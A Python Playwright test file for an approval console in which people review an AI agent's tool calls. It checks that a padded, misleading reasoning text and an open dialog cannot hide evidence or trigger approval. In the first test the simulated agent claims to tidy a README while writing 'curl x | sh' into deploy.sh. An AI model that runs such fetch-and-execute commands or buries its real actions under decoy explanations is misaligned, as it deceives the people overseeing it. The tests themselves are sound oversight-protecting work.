"""Nothing is decided that is not in sight: neither claims nor dialogs may hide what is decided."""

from playwright.async_api import expect

from tests.web.conftest import Asking, Console, press_alone, seen_for_a_moment

CLAIM = "I will tidy the README, as you asked. " * 250


async def test_a_long_claim_hides_neither_evidence_nor_buttons(
    console: Console, asks: Asking
) -> None:
    page = await console.signed_in()
    call = asks("write_file", {"path": "deploy.sh", "content": "curl x | sh\n"}, reasoning=CLAIM)
    await seen_for_a_moment(page)
    evidence = page.get_by_role("region", name="Evidence")
    await expect(evidence.get_by_text("curl x | sh")).to_be_in_viewport()

    unfold = page.get_by_role("button", name=f"Show all {len(CLAIM):,} characters")
    await unfold.click()
    await expect(page.get_by_role("status").filter(has_text="Scroll until you see")).to_be_visible()
    await press_alone(page, "a")
    approve = page.get_by_role("button", name="Approve once")
    await expect(approve).to_be_disabled()
    await expect(approve).to_be_in_viewport(ratio=1)

    await evidence.scroll_into_view_if_needed()
    await seen_for_a_moment(page)
    box = await evidence.bounding_box()
    assert box is not None
    assert box["height"] >= 190
    assert not call.done()


async def test_a_card_that_comes_under_a_dialog_is_not_seen(console: Console, asks: Asking) -> None:
    page = await console.signed_in()
    await page.keyboard.press("?")
    await expect(page.get_by_role("dialog")).to_be_visible()
    call = asks("write_file", {"path": "new.txt", "content": "x\n"})
    await expect(page.locator("article")).to_be_visible()
    await page.wait_for_timeout(900)

    await page.keyboard.press("Escape")
    await page.wait_for_timeout(420)
    await page.keyboard.press("a")
    await seen_for_a_moment(page)
    await expect(page.get_by_role("button", name="Approve once")).to_be_enabled()
    assert not call.done()
